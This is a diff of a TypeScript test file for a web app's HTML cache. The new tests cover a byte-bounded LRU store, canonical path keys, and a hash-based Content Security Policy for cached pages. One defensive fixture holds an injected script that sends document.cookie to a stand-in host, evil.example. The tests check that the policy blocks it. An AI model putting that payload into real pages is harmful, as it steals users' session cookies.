@@ -1,14 +1,18 @@
+import { createHash } from 'node:crypto';
 import { afterEach, describe, expect, it } from 'vitest';
 import {
   type CachedPage,
   cacheGeneration,
-  HTML_CACHE_MAX_ENTRIES,
+  cachedPageBytes,
+  configureHtmlCache,
+  HTML_CACHE_DEFAULT_MAX_BYTES,
+  htmlCacheStats,
   HTML_CACHE_TTL_MS,
   invalidatePublicCache,
   readCachedPage,
   storeCachedPage,
 } from '#app/services/cache/html-cache.server.ts';
-import { cspWithScriptHashes, publicCacheKey } from '#server/html-cache.ts';
+import { cspForCachedPage, publicCacheKey } from '#server/html-cache.ts';
 
 const page = (text: string): CachedPage => ({
   status: 200,
@@ -38,12 +42,34 @@ describe('HTML cache store', () => {
     expect(readCachedPage('en /blog')).toBeUndefined();
   });
 
-  it('expires entries after the TTL and evicts the least recently used', () => {
+  it('expires entries after the TTL', () => {
     storeCachedPage('en /old', { ...page('x'), storedAt: Date.now() - HTML_CACHE_TTL_MS - 1 }, cacheGeneration());
     expect(readCachedPage('en /old')).toBeUndefined();
-    for (let i = 0; i <= HTML_CACHE_MAX_ENTRIES; i++) storeCachedPage(`en /p${i}`, page(String(i)), cacheGeneration());
-    expect(readCachedPage('en /p0')).toBeUndefined();
-    expect(readCachedPage(`en /p${HTML_CACHE_MAX_ENTRIES}`)).toBeDefined();
+  });
+
+  it('holds at most HTML_CACHE_MAX_BYTES, dropping the least recently used first', () => {
+    const big = (n: number) => page('x'.repeat(10_000) + n);
+    const size = cachedPageBytes('en /p0', big(0));
+    configureHtmlCache({ maxBytes: size * 3 });
+    try {
+      storeCachedPage('en /p0', big(0), cacheGeneration());
+      storeCachedPage('en /p1', big(1), cacheGeneration());
+      storeCachedPage('en /p2', big(2), cacheGeneration());
+      readCachedPage('en /p0'); // p1 is now the least recently used
+      storeCachedPage('en /p3', big(3), cacheGeneration());
+      expect(readCachedPage('en /p1')).toBeUndefined();
+      expect(readCachedPage('en /p0')).toBeDefined();
+      expect(readCachedPage('en /p3')).toBeDefined();
+      expect(htmlCacheStats().bytes).toBeLessThanOrEqual(size * 3);
+      // An attacker requesting many distinct pages cannot grow the cache past its bound.
+      for (let i = 0; i < 1000; i++) storeCachedPage(`en /flood-${i}`, big(i), cacheGeneration());
+      expect(htmlCacheStats().bytes).toBeLessThanOrEqual(size * 3);
+      expect(htmlCacheStats().entries).toBeLessThanOrEqual(3);
+      // A page larger than the whole bound is not stored at all.
+      expect(storeCachedPage('en /huge', page('y'.repeat(size * 4)), cacheGeneration())).toBe(false);
+    } finally {
+      configureHtmlCache({ maxBytes: HTML_CACHE_DEFAULT_MAX_BYTES });
+    }
   });
 });
 
@@ -70,15 +96,47 @@ describe('which requests the cache may answer', () => {
     expect(publicCacheKey(req('/blog', { page: 'abc' }))).toBeNull();
     expect(publicCacheKey(req('/', { utm: 'x' }))).toBeNull();
   });
+
+  it('keys only the canonical spelling of a path: case, percent-encoding, slashes and dot segments are not cached', () => {
+    expect(publicCacheKey(req('/blog/getting-started'))).toBe('en /blog/getting-started');
+    expect(publicCacheKey(req('/sitemap.xml'))).toBe('en /sitemap.xml');
+    for (const variant of ['/Blog', '/BLOG/getting-started', '/blog/', '/%62log', '/blog//x', '/./blog', '/blog/../about', '/Media/seed/hero.jpg', '/%6Dedia/seed/hero.jpg']) {
+      expect(publicCacheKey(req(variant)), variant).toBeNull();
+    }
+    // ?page=1 is /blog itself; a page number only counts when it is written the one way.
+    expect(publicCacheKey(req('/blog', { page: '1' }))).toBeNull();
+    expect(publicCacheKey(req('/blog', { page: '02' }))).toBeNull();
+    expect(publicCacheKey(req('/blog', { page: '12' }))).toBe('en /blog?page=12');
+  });
 });
 
 describe('script-hash CSP for nonce-free cached pages', () => {
-  it('replaces the nonce with the hashes of inline scripts only', () => {
-    const html = '<script src="/a.js"></script><script>console.log(1)</script><script type="module">import "/b.js";</script>';
-    const csp = cspWithScriptHashes("default-src 'self';script-src 'self' 'nonce-abc';style-src 'self'", html);
-    expect(csp).not.toContain('nonce');
-    expect(csp).toContain("'sha256-");
-    expect(csp.match(/'sha256-/g)).toHaveLength(2);
-    expect(csp).toMatch(/^default-src 'self';script-src 'self' 'sha256-[^;]+;style-src 'self'$/);
+  const policy = "default-src 'self';script-src 'self' 'nonce-N0nce+/=';style-src 'self'";
+
+  it('allows by hash exactly the inline scripts the app emitted with the render nonce, and drops the nonce', () => {
+    const html = '<script src="/a.js" nonce="N0nce+/="></script><script nonce="N0nce+/=">console.log(1)</script><script type="module" nonce="N0nce+/=">import "/b.js";</script>';
+    const cached = cspForCachedPage(policy, html, 'N0nce+/=');
+    expect(cached.csp).not.toContain('nonce');
+    expect(cached.csp.match(/'sha256-/g)).toHaveLength(2);
+    expect(cached.csp).toMatch(/^default-src 'self';script-src 'self' 'sha256-[^;]+;style-src 'self'$/);
+    expect(cached.html).not.toContain('nonce');
+    expect(cached.html).toContain('<script>console.log(1)</script>');
+  });
+
+  it('does not allow a script injected into the page content', () => {
+    const injected = '<p>hello</p><script>fetch("https://evil.example/?c="+document.cookie)</script><script nonce="guess">alert(1)</script>';
+    const html = `<script nonce="N0nce+/=">app()</script>${injected}`;
+    const cached = cspForCachedPage(policy, html, 'N0nce+/=');
+    expect(cached.csp.match(/'sha256-/g)).toHaveLength(1);
+    expect(cached.csp).toContain(`'sha256-${createHash('sha256').update('app()').digest('base64')}'`);
+    expect(cached.html).toContain(injected);
+  });
+
+  it('scans a hostile page in linear time', () => {
+    const started = performance.now();
+    cspForCachedPage(policy, '<script'.repeat(200_000), 'N0nce+/=');
+    cspForCachedPage(policy, `${'<script'.repeat(200_000)}>`, 'N0nce+/=');
+    cspForCachedPage(policy, '<script nonce="N0nce+/=">'.repeat(100_000), 'N0nce+/=');
+    expect(performance.now() - started).toBeLessThan(500);
   });
 });
